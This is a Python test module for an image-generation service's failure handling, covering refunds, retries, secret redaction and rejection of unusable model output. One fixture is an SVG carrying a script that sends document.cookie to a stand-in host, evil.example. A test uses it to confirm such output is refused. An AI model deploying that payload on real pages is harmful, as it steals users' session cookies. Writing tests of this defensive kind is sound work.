"""How a generation fails, end to end: each ends ``failed`` with a message a person can read and exactly
one refund, or, when a retry helps, ``completed`` with one charge. The state machine (moto's ASL engine)
does the retries of ``statemachine/generation.asl.json``; the real google-genai client talks to a fake
Gemini. Retries really sleep (2 s intervals with full jitter), so only two tests take that path.
"""

from __future__ import annotations

import base64
import io
import json
import os
from typing import Any

import pytest
from PIL import Image

from imagify.ai.images.protocol import ANSWERED_WITH_TEXT, IMAGE_TOO_LARGE, REQUEST_REFUSED, UNREADABLE_IMAGE
from imagify.media import MAX_IMAGE_PIXELS
from tests.fakes.gemini import (
    DEFAULT_MODEL,
    error_reply,
    html_error_reply,
    image_reply,
    no_image_reply,
    png,
    safety_block_reply,
    text_only_reply,
)
from tests.fakes.http import Reply, ScriptedServer
from tests.integration.generations import fixtures, support
from tests.support.api import ApiClient, User

# The generation-flow fixtures (tests/integration/generations/fixtures.py), for this module.
flow_checks = fixtures.flow_checks
gemini = fixtures.gemini
parked = fixtures.parked
sfn = fixtures.sfn
user = fixtures.user
real_state_machine = fixtures.real_state_machine

REFUNDED = "; your tokens were refunded"


def _generate(api: ApiClient, user: User, body: dict[str, Any] | None = None) -> dict[str, Any]:
    answer = api.post(
        "/generations", body or {"mode": "from_prompt", "prompt": "a green coat"}, token=user.access_token
    )
    assert answer.status == 202, answer.body
    return support.wait_for_generation(api, user, answer.json()["id"])


def _assert_failed_and_refunded_once(api: ApiClient, sql: support.Sql, user: User, done: dict[str, Any]) -> None:
    assert done["status"] == "failed"
    assert done["resultImageBase64"] is None
    assert done["tokensCharged"] == 0
    assert done["errorMessage"].endswith(REFUNDED)
    assert support.ledger_kinds(sql, generation_id=done["id"]) == ["generation_charge", "generation_refund"]
    assert support.balance(sql, user) == 50
    assert api.get(f"/generations/{done['id']}/image", token=user.access_token).status == 404


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        pytest.param(
            safety_block_reply(), "the image model declined this request for safety reasons", id="safety-block"
        ),
        pytest.param(
            text_only_reply("I can describe the outfit but cannot draw it."), ANSWERED_WITH_TEXT, id="text-only"
        ),
        pytest.param(
            no_image_reply(),
            "the image model did not produce an image for this request; try rewording it",
            id="no-image",
        ),
        pytest.param(error_reply(400), REQUEST_REFUSED, id="bad-request-400"),
    ],
)
def test_a_model_answer_without_an_image_fails_at_once_with_a_readable_message_and_one_refund(
    api: ApiClient, gemini: ScriptedServer, user: User, sql: support.Sql, reply: Reply, message: str
):
    # Given a model that answers without an image
    gemini.script(reply)

    # When the user generates
    done = _generate(api, user)

    # Then the generation failed with the reason in words, and its token came back once
    _assert_failed_and_refunded_once(api, sql, user, done)
    assert done["errorMessage"] == message + REFUNDED
    # And it was not retried: asking again would get the same answer
    assert len(gemini.requests) == 1


def test_a_model_that_stays_unavailable_fails_after_the_retries_with_one_refund(
    api: ApiClient, gemini: ScriptedServer, user: User, sql: support.Sql
):
    # Given a model that answers 503 every time
    gemini.script(error_reply(503))

    # When the user generates
    done = _generate(api, user)

    # Then the state machine tried three times (the first call and two retries), then failed it
    assert len(gemini.requests) == 3
    _assert_failed_and_refunded_once(api, sql, user, done)
    assert done["errorMessage"] == "the image service is unavailable right now; please try again shortly" + REFUNDED


def test_a_throttled_model_is_retried_and_the_generation_completes_charged_once(
    api: ApiClient, gemini: ScriptedServer, user: User, sql: support.Sql
):
    # Given a model that throttles once, then draws
    drawn = png(20, 20, (1, 2, 3))
    gemini.script(error_reply(429), image_reply(drawn))

    # When the user generates
    done = _generate(api, user)

    # Then it completed after one retry, charged once and not refunded
    assert len(gemini.requests) == 2
    assert done["status"] == "completed", done["errorMessage"]
    assert done["tokensCharged"] == 1
    assert support.ledger_kinds(sql, generation_id=done["id"]) == ["generation_charge"]
    assert support.balance(sql, user) == 49


def test_an_upload_that_vanished_before_the_model_ran_fails_the_generation_with_one_refund(
    api: ApiClient,
    gemini: ScriptedServer,
    parked: str,
    local_stack: Any,
    sfn: Any,
    real_state_machine: str,
    user: User,
    sql: support.Sql,
):
    # Given a photo-with-text generation of an upload, accepted (its execution has not started working yet)
    ref = support.upload(api, user, support.picture(), "image/png", "user_photo")
    answer = api.post(
        "/generations", {"mode": "photo_text", "userPhotoUrl": ref, "prompt": "add a hat"}, token=user.access_token
    )
    assert answer.status == 202, answer.body
    generation_id = answer.json()["id"]
    # And the upload is gone by the time the flow reads it (expired and swept, say)
    s3 = local_stack.aws.client("s3")
    bucket = local_stack.template.buckets["UploadsBucket"].name
    s3.delete_object(Bucket=bucket, Key=ref.removeprefix("upload:"))
    gemini.script(image_reply())

    # When the generation's flow runs
    sfn.start_execution(
        stateMachineArn=real_state_machine,
        name=generation_id,
        input=json.dumps({"generationId": generation_id}),
    )
    done = support.wait_for_generation(api, user, generation_id)

    # Then it failed, saying which photo is missing, without calling the model, and was refunded once
    _assert_failed_and_refunded_once(api, sql, user, done)
    assert done["errorMessage"] == "userPhotoUrl: no such upload (it may have expired)" + REFUNDED
    assert gemini.requests == []


# -- a retired model, a provider's words, and output that is not an image ----------------------------------

# A key of the right shape (not a real one): ``AIza`` and 35 more characters.
LEAKED_KEY = "AIzaSyD3adB33fC0ffee_0123456789abcdefgh"
UPSTREAM = f"https://generativelanguage.googleapis.com/v1beta/models/m:generateContent?key={LEAKED_KEY}"
SECRETS = (LEAKED_KEY, "483920117465", "googleapis.com", "Traceback", "<html", "proxy.py", "Permission denied")


def test_a_model_the_api_no_longer_serves_fails_at_once_in_our_words_with_one_refund(
    api: ApiClient, gemini: Any, user: User, sql: support.Sql
):
    # Given the configured model was shut down: the API answers 404 NOT_FOUND for it (and would draw otherwise)
    assert os.environ.get("GEMINI_MODEL", DEFAULT_MODEL) == DEFAULT_MODEL
    gemini.models = frozenset(gemini.models - {DEFAULT_MODEL})
    gemini.script(image_reply())

    # When the user generates
    done = _generate(api, user)

    # Then the real client's request met the 404, and the generation failed at once, refunded, in our words
    [request] = gemini.requests
    assert request.path.endswith(f"/models/{DEFAULT_MODEL}:generateContent")
    _assert_failed_and_refunded_once(api, sql, user, done)
    assert done["errorMessage"] == "the image model is not available right now, so nothing was generated" + REFUNDED
    assert "not found" not in done["errorMessage"]
    assert "ListModels" not in done["errorMessage"]


@pytest.mark.parametrize(
    "reply",
    [
        pytest.param(error_reply(400, f"API key not valid ({LEAKED_KEY}), projects/483920117465"), id="400"),
        pytest.param(error_reply(403, f"Permission denied on projects/483920117465 via {UPSTREAM}"), id="403"),
        pytest.param(error_reply(404, f"models/m is not found; try {UPSTREAM}"), id="404"),
        pytest.param(
            html_error_reply(
                400,
                f'<html><body><pre>Traceback (most recent call last):\n  File "/srv/proxy.py"\nKeyError: {LEAKED_KEY}'
                "</pre></body></html>",
            ),
            id="400-html",
        ),
    ],
)
def test_a_provider_error_never_reaches_the_user_and_its_key_never_reaches_the_logs(
    api: ApiClient,
    gemini: ScriptedServer,
    user: User,
    sql: support.Sql,
    captured_logs: io.StringIO,
    capfd: pytest.CaptureFixture[str],
    reply: Reply,
):
    # Given a model whose error carries an API key, a project number, an upstream URL or an HTML traceback
    gemini.script(reply)

    # When the user generates
    done = _generate(api, user)

    # Then it failed, refunded, with our words only
    _assert_failed_and_refunded_once(api, sql, user, done)
    assert done["errorMessage"] in (
        REQUEST_REFUSED + REFUNDED,
        "the image model is not available right now, so nothing was generated" + REFUNDED,
    )
    for secret in SECRETS:
        assert secret not in done["errorMessage"]
    # And the provider's text was logged, with the key redacted
    out, err = capfd.readouterr()
    logs = captured_logs.getvalue() + out + err
    assert "the image model answered with an error" in logs
    assert LEAKED_KEY not in logs
    assert "[REDACTED]" in logs


def _random_bytes() -> bytes:
    return bytes((i * 7919 + 13) % 251 for i in range(4096))


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script><rect width='64' height='64'/></svg>"
)


def _too_many_pixels() -> bytes:
    # One-bit pixels, so the PNG is small; its header says more pixels than MAX_IMAGE_PIXELS.
    side = int(MAX_IMAGE_PIXELS**0.5) + 100
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "mime", "message"),
    [
        pytest.param(_random_bytes(), "image/jpeg", UNREADABLE_IMAGE, id="random-bytes-labelled-jpeg"),
        pytest.param(SVG, "image/svg+xml", UNREADABLE_IMAGE, id="svg-with-script"),
        pytest.param(png()[:60], "image/png", UNREADABLE_IMAGE, id="truncated-png"),
        pytest.param(_too_many_pixels(), "image/png", IMAGE_TOO_LARGE, id="too-many-pixels"),
    ],
)
def test_model_output_that_is_not_a_usable_image_fails_the_generation_with_one_refund(
    api: ApiClient, gemini: ScriptedServer, user: User, sql: support.Sql, data: bytes, mime: str, message: str
):
    # Given a model whose answer is labelled an image but is not one we accept
    gemini.script(image_reply(data, mime))

    # When the user generates
    done = _generate(api, user)

    # Then nothing was stored, the generation failed in our words, refunded once, and was not retried
    _assert_failed_and_refunded_once(api, sql, user, done)
    assert done["errorMessage"] == message + REFUNDED
    assert len(gemini.requests) == 1


def test_the_stored_type_is_what_the_bytes_are_not_what_the_model_said(
    api: ApiClient, gemini: ScriptedServer, user: User
):
    # Given a model that labels a JPEG as a PNG
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (200, 100, 0)).save(out, "JPEG")
    gemini.script(image_reply(out.getvalue(), "image/png"))

    # When the user generates, Then it completed, and the image is served as the JPEG it is
    done = _generate(api, user)
    assert done["status"] == "completed", done["errorMessage"]
    head, _, encoded = done["resultImageBase64"].partition(",")
    assert head == "data:image/jpeg;base64"
    assert base64.b64decode(encoded) == out.getvalue()
